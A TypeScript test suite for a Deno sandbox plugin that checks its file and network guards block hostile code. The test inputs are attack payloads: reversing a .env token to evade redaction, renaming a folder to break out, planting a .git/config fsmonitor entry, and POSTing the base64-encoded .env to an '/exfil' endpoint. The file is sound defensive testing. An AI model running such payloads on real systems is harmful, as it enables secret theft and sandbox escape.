import { startSandboxFixture, type SandboxFixture } from '@nodwyn/testing';
import { existsSync, mkdirSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSandboxDenoPlugin } from '../src/index.js';
import { HOST_PLUGINS } from './host-plugins.js';
import { expectRefused, expectValue } from './run-helpers.js';

const TOKEN = 'ghp_Q8vR2mZk7LwX4nT9bYc3Hs6Jd1Fp0Ga5Ue2K';
const REVERSED = [...TOKEN].reverse().join('');
const REVERSE = 'export default async (a, nodwyn) => [...(await nodwyn.readFile(a.path))].reverse().join("");';

let f: SandboxFixture;

beforeAll(async () => {
  f = await startSandboxFixture({ plugin: createSandboxDenoPlugin({ unguardedEgress: true }), id: 'deno', hostPlugins: HOST_PLUGINS });
  f.file('.env', `GITHUB_TOKEN=${TOKEN}\n`);
  f.file('notes/plain.txt', 'plain\n');
}, 60_000);

afterAll(async () => {
  await f?.stop();
});

function logText(): string {
  return JSON.stringify(f.kernel.events(f.session));
}

describe("Deno runner: the file doors pass nodwyn's guard and text layers", () => {
  it('a read-only capability that reverses .env never holds the token: its result and the log have neither spelling, and the run is tainted', async () => {
    const result = await f.run({ code: REVERSE, args: { path: '.env' }, grants: { read: true } });
    if (!result.ok) throw new Error(JSON.stringify(result.envelope));
    const text = JSON.stringify(result.value);
    expect(text).toContain(' DETCADER[');
    for (const spelling of [TOKEN, REVERSED, TOKEN.slice(4, 24), REVERSED.slice(4, 24)]) {
      expect(text).not.toContain(spelling);
      expect(logText()).not.toContain(spelling);
    }
    expect(result.taint.length).toBeGreaterThan(0);
  });

  it("has no file permission of its own: Deno's APIs cannot read or write the workspace around the door", async () => {
    const read = await f.run({ code: `export default () => Deno.readTextFile('${join(f.workspace, '.env')}');`, grants: { read: true } });
    expectRefused(read, 'PERMISSION_DENIED', 'SANDBOX_ACCESS_DENIED');
    const write = await f.run({ code: `export default () => Deno.writeTextFile('${join(f.workspace, 'deno.txt')}', 'x');`, grants: { write: true } });
    expectRefused(write, 'PERMISSION_DENIED', 'SANDBOX_ACCESS_DENIED');
    expect(existsSync(join(f.workspace, 'deno.txt'))).toBe(false);
  });

  it('cannot rename a parent of a data folder that lies in the workspace and walk in', async () => {
    const data = f.file('parent/nodwyn-home/log.key', 'key');
    const code = `export default async (a, nodwyn) => { await Deno.rename('${join(f.workspace, 'parent')}', '${join(f.workspace, 'moved')}'); return nodwyn.readFile('moved/nodwyn-home/log.key'); };`;
    expectRefused(await f.run({ code, grants: { read: true, write: true } }), 'PERMISSION_DENIED', 'SANDBOX_ACCESS_DENIED');
    expect(readFileSync(data, 'utf8')).toBe('key');
    expect(existsSync(join(f.workspace, 'moved'))).toBe(false);
  });

  it('reads and writes through the door, also through a symlink that stays inside', async () => {
    symlinkSync(join(f.workspace, 'notes', 'plain.txt'), join(f.workspace, 'plain-alias'));
    const code = "export default async (a, nodwyn) => { await nodwyn.writeFile('out/door.txt', 'door'); return [await nodwyn.readFile('plain-alias'), await nodwyn.readFile('out/door.txt')]; };";
    expectValue(await f.run({ code, grants: { read: true, write: true } }), ['plain\n', 'door']);
    expect(readFileSync(join(f.workspace, 'out', 'door.txt'), 'utf8')).toBe('door');
    const together = "export default (a, nodwyn) => Promise.all(['notes/plain.txt', 'out/door.txt', 'plain-alias'].map((p) => nodwyn.readFile(p)));";
    expectValue(await f.run({ code: together, grants: { read: true } }), ['plain\n', 'door', 'plain\n']);
  });

  it("refuses .nodwyn/ and nodwyn's data folder at the door, and writes into .git/ need a person", async () => {
    mkdirSync(join(f.workspace, '.git'), { recursive: true });
    const nodwyn = await f.run({ code: "export default (a, nodwyn) => nodwyn.writeFile('.NODWYN/config.toml', 'x');", grants: { write: true } });
    expectRefused(nodwyn, 'PERMISSION_DENIED', 'SANDBOX_PATH_RESERVED');
    const git = await f.run({ code: "export default (a, nodwyn) => nodwyn.writeFile('.git/config', '[core]\\n\\tfsmonitor = x\\n');", grants: { write: true } });
    expectRefused(git, 'CONFIRMATION_REQUIRED');
    expect(existsSync(join(f.workspace, '.git', 'config'))).toBe(false);
  });

  it('with unguarded egress allowed, what a run read reaches the granted host redacted, never the token', async () => {
    const code = `export default async (a, nodwyn) => (await fetch('${f.granted.origin}/exfil', { method: 'POST', body: btoa(await nodwyn.readFile('.env')) })).status;`;
    expectValue(await f.run({ code, grants: { read: true, net: [f.granted.host] } }), 200);
    const seen = f.granted.seen.find((s) => s.url === '/exfil');
    expect(Buffer.from(seen?.body ?? '', 'base64').toString()).toContain('[REDACTED');
    expect(Buffer.from(seen?.body ?? '', 'base64').toString()).not.toContain(TOKEN);
  });
});
